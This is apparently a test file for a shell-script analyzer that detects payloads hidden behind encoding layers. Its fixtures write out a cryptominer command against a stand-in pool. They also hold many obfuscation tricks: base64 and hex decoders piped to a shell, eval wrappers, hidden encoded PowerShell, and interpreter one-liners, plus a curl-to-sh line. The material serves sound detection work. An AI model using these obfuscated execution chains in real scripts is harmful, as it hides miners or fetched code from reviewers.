// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell texts are full of them.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { base64, lines, runOf, scriptsOf } from './test-run.ts';

const payload = 'xmrig -o pool.example.com:3333';
const encoded = base64(payload);
const hex = Buffer.from(payload).toString('hex');

/** The payload is a command of the text, behind so many layers. */
function reaches(text: string, layers: number): void {
  const found = runOf(text).commands.find(
    (command) => command.words.map((word) => word.text).join(' ') === payload,
  );
  assert.ok(found, `${text}\n${lines(text).join('\n')}`);
  assert.equal(found.layers.length, layers, text);
}

test('decoders in a pipe to a shell', () => {
  const decoders = [
    `echo ${encoded} | base64 -d`,
    `echo ${encoded} | base64 --decode`,
    `echo ${encoded} | base64 -D`,
    `base64 -d <<< ${encoded}`,
    `base64 -d <<EOF\n${encoded.slice(0, 9)}\n${encoded.slice(9)}\nEOF\ncat x`,
    `echo ${encoded} | openssl base64 -d -A`,
    `echo ${encoded} | openssl enc -d -base64 -A`,
    `echo ${hex} | xxd -r -p`,
    `printf '${hex.replace(/../g, '\\x$&')}'`,
    `echo -e '${hex.replace(/../g, '\\x$&')}'`,
    `echo -n ${[...payload].reverse().join('').replaceAll(' ', '" "')} | rev`,
    `echo ${payload.replaceAll('r', '@').replaceAll(' ', '" "')} | tr @ r`,
    `echo x_m_rig -o pool.example.com:3333 | sed 's/_//g'`,
    `echo ${gzipSync(payload).toString('base64')} | base64 -d | gunzip`,
    `echo ${gzipSync(payload).toString('base64')} | base64 -d | zcat -f`,
    `printf %s%s xmrig ' -o pool.example.com:3333'`,
    `printf '%s ' xmrig -o pool.example.com:3333`,
    `cat <<'EOF'\n${payload}\nEOF\ncat x`,
    `{ echo xmrig \\\\; echo -o pool.example.com:3333; }`,
  ];
  for (const decoder of decoders) {
    const [first = '', ...rest] = decoder.split('\n');
    for (const shell of ['sh', 'bash -', 'sudo bash -s x', 'source /dev/stdin', 'dash -ex']) {
      reaches([`${first} | ${shell}`, ...rest].join('\n'), 1);
    }
  }
});

test('every way to hand a text to a shell', () => {
  const texts = [
    `eval "${payload}"`,
    `eval ${payload}`,
    `sh -c '${payload}'`,
    `bash -lc "${payload}"`,
    `bash -eo pipefail -c '${payload}'`,
    `sudo -u root env A=b nohup timeout -k 1 5m bash -c '${payload}' &`,
    `docker run --rm -e A=b -v /a:/b alpine:3 sh -c '${payload}'`,
    `bash <<< '${payload}'`,
    `bash <<EOF\n${payload}\nEOF`,
    `bash <(echo '${payload}')`,
    `. <(printf '${payload}')`,
    `echo '${payload}' | xargs -I{} sh -c '{}'`,
    `P='${payload}'; eval "$P"`,
    `P=$(echo ${encoded} | base64 -d); sh -c "$P"`,
    `eval "$(echo ${encoded} | base64 -d)"`,
    `bash -c '$0 -o $1' xmrig pool.example.com:3333`,
    `env -S '${payload}' sh -c '${payload}'; sh -c '${payload}'`,
    `tmux new-session -d -s x '${payload}'`,
    `screen -dmS x bash -c '${payload}'`,
    `su -c '${payload}' nobody`,
    `trap '${payload}' EXIT`,
    `while read -r l; do eval "$l"; done <<EOF\ntrue\n${payload}\nEOF`,
    `A=xmrig sh -c '$A -o pool.example.com:3333'`,
  ];
  for (const text of texts) reaches(text, 1);
  reaches(`bash -c "$(echo 'eval ${encoded}' | sed 's/${encoded}/"${payload}"/')"`, 2);
});

test('xargs hands its input on as words', () => {
  reaches('echo -o pool.example.com:3333 | xargs xmrig', 0);
});

test('programs of other languages that decode or start something', () => {
  const texts = [
    `python3 -c "import base64,os;os.system(base64.b64decode('${encoded}').decode())"`,
    `python -c 'import os; os.system("${payload}")'`,
    `python3 -c 'import subprocess as s; s.run(["xmrig", "-o", "pool.example.com:3333"])'`,
    `python3 - <<EOF\nimport os\nos.system('${payload}')\nEOF`,
    `node -e "require('child_process').execSync('${payload}')"`,
    `node -e "eval(Buffer.from('${encoded}','base64').toString())"`,
    `node -e 'eval(Buffer.from("${hex}","hex").toString())'`,
    `perl -MMIME::Base64 -e 'system(decode_base64("${encoded}"))'`,
    `perl -e 'system("${payload}")'`,
    `ruby -e 'system("${payload}")'`,
    `php -r 'shell_exec("${payload}");'`,
  ];
  for (const text of texts) reaches(text, 2);
  assert.deepEqual(lines(`python -c 'print("hello ${'a'.repeat(40)}")'`).length, 1);
});

test('an encoded PowerShell command', () => {
  const utf16 = Buffer.from(payload, 'utf16le').toString('base64');
  for (const option of ['-EncodedCommand', '-enc', '-e', '-NoP -W Hidden -ep bypass -ec']) {
    reaches(`pwsh ${option} ${utf16}`, 1);
  }
  reaches(`powershell -Command "${payload}"`, 1);
});

test('files that the text writes and then runs', () => {
  const writers = [
    `cat > x.sh <<'EOF'\n${payload}\nEOF\n`,
    `echo '${payload}' > x.sh\n`,
    `echo xmrig \\\\ > x.sh; echo -o pool.example.com:3333 >> x.sh\n`,
    `echo ${encoded} | base64 -d > x.sh\n`,
    `echo '${payload}' | tee x.sh\n`,
    `sudo tee x.sh <<< '${payload}'\n`,
    `{ echo '#!/bin/sh'; echo '${payload}'; } > x.sh\n`,
    `echo '${payload}' > y; mv y x.sh\n`,
    `mkdir d; cd d; echo '${payload}' > ../x.sh; cd ..\n`,
  ];
  for (const writer of writers) {
    for (const run of [
      'bash x.sh',
      './x.sh',
      'sh ./x.sh a',
      '. ./x.sh',
      'nohup ./x.sh &',
      'sh < x.sh',
    ]) {
      reaches(writer + run, 1);
    }
  }
  reaches(`printf '#!/usr/bin/env python3\nimport os\nos.system("${payload}")' > x; ./x`, 2);
});

test('written files are listed with their text', () => {
  const run = runOf('cat > a/x.json <<EOF\n{"url": "$POOL"}\nEOF\ntee b < c', { POOL: 'p' });
  const [written, ...others] = run.written;
  assert.deepEqual([written?.path, written?.text], ['a/x.json', '{"url": "p"}\n']);
  assert.deepEqual([written?.start, written?.end, written?.layers], [0, 20, []]);
  assert.equal(others.length, 0);
});

test('layers hold the decoded texts, outermost first', () => {
  const inner = `echo ${encoded} | base64 -d | sh`;
  const found = runOf(`echo ${base64(inner)} | base64 -d | sh`).commands.at(-1);
  assert.deepEqual(found?.layers, [inner, payload]);
});

test('what cannot be unpacked is named', () => {
  const unread = (text: string) => runOf(text).unread;
  assert.deepEqual(unread('echo aaaa | base64 -d | xz -d | sh'), [
    'data packed for xz',
    'a shell runs what another command prints',
  ]);
  assert.deepEqual(unread("printf '\\x7fELF\\0' > x; ./x"), ['a decoded program that is no text']);
  assert.deepEqual(unread('curl https://example.com/x | sh'), []);
});

test('files of the tree that are run', () => {
  const paths = (text: string) => scriptsOf(text).filter((path) => !path.startsWith('/'));
  assert.deepEqual(paths('./x.sh; bash y.sh a; source z; . ./w; python3 p.py'), [
    ...['x.sh', 'y.sh', 'z', 'w', 'p.py'],
  ]);
  assert.deepEqual(paths('cd a && ./b.sh; (cd c; ./d.sh); ./e.sh'), [
    'a/b.sh',
    'a/c/d.sh',
    'a/e.sh',
  ]);
  assert.deepEqual(paths('sudo bash "$GITHUB_WORKSPACE/ci/x.sh"'), ['ci/x.sh']);
  assert.deepEqual(paths('${{ github.workspace }}/x.sh; "$(pwd)/y.sh"'), ['x.sh', 'y.sh']);
  assert.deepEqual(paths('/bin/ls; ls; bash -c a; ../x; $X/y; ./*.sh'), ['../x', '$X/y', '*.sh']);
  assert.deepEqual(paths('node --version; npm test; python -m pip; pwsh -File s/x.ps1'), [
    's/x.ps1',
  ]);
});
